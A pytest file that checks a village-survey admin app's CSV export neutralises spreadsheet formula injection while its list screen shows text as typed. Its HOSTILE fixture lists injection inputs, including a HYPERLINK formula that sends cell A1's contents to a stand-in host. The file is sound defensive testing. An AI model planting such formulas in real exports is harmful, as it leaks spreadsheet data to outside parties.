"""piccolo-admin's own "Export CSV" builds the file in the browser from the list API (admin_ui's
CSVModal.vue: ``__page_size=1000``, ``__readable=true``, page by page) and only doubles quotes. What a
cadre typed must not become a live formula cell there either: those answers carry text cells
neutralised by the server exports' own rule (server/exports/render.py ``neutralise``), while the list
screen shows the text as typed. Both databases, real HTTP, the parameters the button sends."""

from __future__ import annotations

import uuid

import pytest

from server.exports.render import neutralise
from tests.admin.helpers import AdminBrowser, create, kader_device
from tests.conftest import GEROKGAK, LiveServer, Store

DESA = "51.08.01.2013"  # Gerokgak's Sanggalangit: only this test writes there

HOSTILE = {
    "equals": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "space first": " =1+2",
    "tab": "\t=1+2",
    "carriage return": "\r=1+2",
    "full-width equals": "\uff1d1+2",
    "full-width plus": "\uff0b1",
    "full-width minus": "\uff0d1",
    "full-width at": "\uff20SUM(1)",
}
BENIGN = ["Jalan dusun rusak", "e-mail kader", "100 m - 200 m", "'sudah dikutip"]


@pytest.fixture(scope="module")
def typed(server: LiveServer, store: Store) -> dict[str, uuid.UUID]:
    cadre = kader_device(server, store, DESA)
    return {text: create(cadre, "pengkajian", jenis="masalah", uraian=text, penyebab=text)
            for text in [*HOSTILE.values(), *BENIGN]}


@pytest.fixture(scope="module")
def admin(server: LiveServer, store: Store) -> AdminBrowser:
    return AdminBrowser.new(server, store, GEROKGAK)


def listed(admin: AdminBrowser, **params: object) -> dict[str, dict[str, object]]:
    r = admin.http.get("/admin/api/tables/pengkajian/", params={"desa_code": DESA, **params})
    assert r.status_code == 200, r.text[:300]
    return {row["id"]: row for row in r.json()["rows"]}


def test_the_export_buttons_rows_hold_no_formula(admin: AdminBrowser, typed: dict[str, uuid.UUID]) -> None:
    # As CSVModal.vue asks: the filters, then __page_size=1000, __readable=true, __page=n.
    rows = listed(admin, __page_size=1000, __readable="true", __page=1)
    for text, record in typed.items():
        row = rows[str(record)]
        assert row["uraian"] == row["penyebab"] == neutralise(text), (text, row["uraian"])
    for name, text in HOSTILE.items():
        cell = rows[str(typed[text])]["uraian"]
        assert cell.startswith("'") and cell[1:] == text, name  # what Excel shows: the text, inert
    for text in BENIGN:
        assert rows[str(typed[text])]["uraian"] == text


def test_the_list_screen_shows_the_text_as_typed(admin: AdminBrowser, typed: dict[str, uuid.UUID]) -> None:
    # As the list screen asks (store.ts fetchRows): __readable=true with the chosen page size (5–100).
    rows = listed(admin, __readable="true", __page_size=100, __page=1)
    for text, record in typed.items():
        assert rows[str(record)]["uraian"] == text


@pytest.mark.parametrize("text", sorted(HOSTILE.values()))
def test_the_server_exports_neutralise_the_same_starts(text: str) -> None:
    assert neutralise(text) == "'" + text
